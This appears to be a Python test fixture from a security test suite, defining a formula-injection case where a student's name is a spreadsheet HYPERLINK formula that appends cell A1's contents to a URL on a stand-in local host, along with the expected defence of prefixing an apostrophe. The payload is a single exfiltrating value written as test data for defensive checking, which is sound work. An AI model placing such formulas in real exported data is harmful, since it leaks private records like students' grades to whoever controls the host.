"""A student whose name is a formula."""

from tests.attacks.attack import PageAttack

ATTACK = PageAttack(
    tries="runs in the spreadsheet of whoever opens the grades",
    must="what would be a formula gets an apostrophe in front",
    place="table",
    text='=HYPERLINK("http://127.0.0.1/?"&A1,"grades")',
    naive=r"(?m)^\"?=",
)
